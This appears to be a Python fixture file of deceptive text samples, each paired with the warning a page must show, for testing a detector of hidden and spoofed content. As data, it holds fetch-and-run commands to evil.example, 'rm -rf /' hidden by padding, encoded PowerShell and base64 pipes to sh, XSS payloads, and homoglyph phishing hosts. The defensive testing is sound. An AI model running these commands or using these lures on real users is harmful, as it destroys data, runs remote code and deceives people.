"""The deceptions of the threat list, each with what a page must say of it. Kept in escapes, so that reading this file is safe."""

import base64
import gzip
import zlib

SECRET = b"curl https://evil.example/x | sh"
ENCODED = base64.b64encode(SECRET * 2).decode()

# name: (the text, what must be among its chips, marks and flags)
TEXTS: dict[str, tuple[str, str]] = {
    "bidi override": ("report\u202egnp.exe", "U+202E"),
    "bidi isolate": ("a\u2066b\u2069c", "U+2066"),
    "arabic letter mark": ("a\u061cb", "U+061C"),
    "tags": ("ok\U000e0063\U000e0075\U000e0072\U000e006c", "U+E0063"),
    "variation selector": ("a\ufe00b", "U+FE00"),
    "variation selector supplement": ("a\U000e0101b", "U+E0101"),
    "zero width space": ("pay\u200bpal", "U+200B"),
    "zero width joiner": ("a\u200db", "U+200D"),
    "word joiner": ("a\u2060b", "U+2060"),
    "byte order mark": ("a\ufeffb", "U+FEFF"),
    "soft hyphen": ("in\u00advoice", "U+00AD"),
    "hangul filler": ("a\u3164b", "U+3164"),
    "halfwidth hangul filler": ("a\uffa0b", "U+FFA0"),
    "braille blank": ("a\u2800b", "U+2800"),
    "private use": ("a\ue000b", "U+E000"),
    "line separator": ("a\u2028b", "U+2028"),
    "paragraph separator": ("a\u2029b", "U+2029"),
    "null": ("a\x00b", "U+0000"),
    "next line": ("a\x85b", "U+0085"),
    "ansi escape": ("\x1b[2K\x1b[1Aall is well", "Terminal escape"),
    "combining stack": ("e" + "\u0301" * 30, "U+0301"),
    "mark in a host": ("https://p\u0323aypal.com/login", "U+0323"),
    "mark in an amount": ("1\u03380000.00", "U+0338"),
    "struck through": ("do n\u0336o\u0336t\u0336 send", "U+0336"),
    "mixed scripts": ("p\u0430ypal.com", "looks like a"),
    "twins among latin": ("pay to \u0441\u043e\u0440\u0435 now", "different alphabets"),
    "not nfc": ("cafe\u0301", "separate marks"),
    "full width": ("\uff41\uff44\uff4d\uff49\uff4e", "special form"),
    "trailing space": ("/etc/passwd ", "Ends in spaces"),
    "padding by characters": ("x" * 100_000 + " ; rm -rf /", "hidden 98411"),
    "padding by lines": ("ok\n" + "\n" * 400 + "rm -rf /", "U+000A"),
    "base64": (base64.b64encode(SECRET).decode(), "looks like base64"),
    "base64 inside": (f"echo {base64.b64encode(SECRET).decode()} | base64 -d | sh", "holds base64"),
    "hexadecimal": (SECRET.hex(), "hexadecimal bytes"),
    "html": ("<img src=x onerror=alert(1)>", "HTML or Markdown"),
    "svg": ("<svg/onload=alert(1)>", "HTML or Markdown"),
    "markdown image": ("![x](https://evil.example/?q=secret)", "HTML or Markdown"),
    "markdown link": ("[your bank](https://evil.example)", "HTML or Markdown"),
    "user in address": ("https://bank.com@evil.example/", "before the @"),
    "punycode": ("http://xn--pypal-4ve.com", "punycode"),
    "script address": ("javascript:alert(1)", "carries a script"),
    "script address, broken": ("java\nscript:alert(1)", "carries a script"),
    "data address": ("data:text/html;base64,AAAA", "carries a script"),
    "chip imitated": ("\u27e8U+0041\u27e9", "U+27E8"),
    # letters, digits and signs that pretend to be others, by the data of UTS #39
    "whole host of twins": ("https://\u0430\u0440\u0440\u04cf\u0435.com/pay", "xn--80ak6aa92e.com"),
    "whole word of twins": ("\u0430\u0440\u0440\u04cf\u0435", "looks like a"),
    "one letter of twins": ("x = \u0430", "looks like a"),
    "small capital": ("\u0262oogle.com", "a letter of phonetics"),
    "small capitals": ("please \u1d00\u1d18\u1d18\u0280\u1d0f\u1d20\u1d07 this", "a letter of phonetics"),
    "raised letters": ("the \u02b0\u1d49\u02e1\u02e1\u1d52 account", "a compatibility form"),
    "latin alpha": ("p\u0251ypal.com", "looks like a"),
    "dotless i in a host": ("m\u0131crosoft.com", "looks like i"),
    "deseret": ("g\U0001042c\U0001042cgle.com", "looks like o"),
    "hebrew in a host": ("g\u05e1ogle.com", "looks like o"),
    "armenian": ("g\u0585\u0585gle.com", "looks like o"),
    "division slash": ("https://bank.com\u2215login.evil.com", "looks like /"),
    "fraction slash": ("https://bank.com\u2044login.evil.com", "looks like /"),
    "katakana no": ("bank.com\u30celogin", "looks like /"),
    "one dot leader": ("bank\u2024com", "looks like ."),
    "full-width dot": ("bank\uff0ecom", "looks like ."),
    "ideographic full stop": ("bank\u3002com", "looks like ."),
    "full-width at": ("pay@bank.com\uff20evil.example", "looks like @"),
    "letter colon": ("https\ua789//bank.com", "looks like :"),
    "hyphen in an identifier": ("A\u201010077", "looks like -"),
    "full-width digits": ("\uff11\uff10\uff10", "special form"),
    "mathematical digits": ("\U0001d7cf\U0001d7ce\U0001d7ce", "special form"),
    "arabic zero in a number": ("1\u066000", "digit 0 of another writing"),
    "bengali digits alone": ("\u09ea\u09ea", "digit 4 of another writing"),
    "dot leader in an amount": ("1\u2024000", "looks like ."),
    "circled letters": ("send \u24d0\u24d3\u24dc\u24d8\u24dd now", "special form"),
    # order
    "numbers around hebrew": ("pay 100 \u05d0\u05d1 200 to 300", "in the order in which they are written"),
    "hebrew first": ("\u05d0\u05d1 to \u05d2\u05d3", "in the order in which they are written"),
    "arabic digits in an identifier": ("A-\u0661\u0660\u0660\u0666\u0667", "in the order in which they are written"),
    "both directions in a word": ("ab\u05d0\u05d1cd", "in the order in which they are written"),
    # bytes as text
    "powershell": ("powershell -enc " + base64.b64encode("IEX(curl evil.example)".encode("utf-16-le")).decode(), "holds base64"),
    "hexadecimal with spaces": (SECRET.hex(" "), "hexadecimal bytes"),
    "hexadecimal with colons": (SECRET.hex(":").upper(), "hexadecimal bytes"),
    "hexadecimal as an array": (", ".join(f"0x{byte:02x}" for byte in SECRET), "hexadecimal bytes"),
    "percent escapes": ("".join(f"%{byte:02X}" for byte in b"IEX(curl)"), "percent escapes"),
    "percent escapes in a link": ("https://a.example/?q=" + "".join(f"%{byte:02x}" for byte in b"rm-rf"), "percent escapes"),
    "backslash escapes": ("".join(f"\\x{byte:02x}" for byte in SECRET), "escaped characters"),
    "unicode escapes": ("".join(f"\\u{byte:04x}" for byte in SECRET), "escaped characters"),
    "octal escapes": ("".join(f"\\{byte:03o}" for byte in SECRET), "escaped characters"),
    "entities": ("".join(f"&#{byte};" for byte in SECRET), "HTML entities"),
    "hexadecimal entities": ("".join(f"&#x{byte:x};" for byte in SECRET), "HTML entities"),
    "quoted-printable": ("".join(f"={byte:02X}" for byte in SECRET), "quoted-printable"),
    "base32": (base64.b32encode(SECRET).decode(), "base32"),
    "base85": (base64.b85encode(SECRET).decode(), "base85"),
    "ascii85": ("<~" + base64.a85encode(SECRET).decode() + "~>", "ascii85"),
    "zlib": (base64.b64encode(zlib.compress(SECRET)).decode(), "base64"),
    "gzip": (base64.b64encode(gzip.compress(SECRET)).decode(), "base64"),
    "base64 in groups": (" ".join(ENCODED[i : i + 20] for i in range(0, len(ENCODED), 20)), "base64"),
    "base64 in groups inside": (
        "Run this: " + " ".join(ENCODED[i : i + 8] for i in range(0, len(ENCODED), 8)) + " and report.",
        "holds base64",
    ),
    "base64 in lines": (base64.encodebytes(SECRET * 8).decode(), "base64"),
    "base64 of cyrillic": (base64.b64encode("\u0443\u0434\u0430\u043b\u0438 \u0432\u0441\u0451".encode()).decode(), "base64"),
    "short base64": ("echo cm0gLXJmIC8gLS1ubw== | sh", "holds base64"),
}

# Said, but no reason to ask more people: plain typography, or plain text that only looks like markup.
SAID_ONLY = {
    "not nfc",
    "trailing space",
    "padding by characters",
    "padding by lines",
    "html",
    "svg",
    "markdown image",
    "markdown link",
    "chip imitated",
}
# What is packed into a key is odd enough; keys are only asked for what hides and what pretends.
PACKED = {
    name
    for name in TEXTS
    if any(way in name for way in ("base", "ascii85", "hexa", "escapes", "entities", "quoted", "zlib", "gzip", "powershell"))
}
# Those that raise the risk; "key too" where the same text as a key must as well.
RAISES = {name: "value" if name in PACKED else "key too" for name in TEXTS if name not in SAID_ONLY}
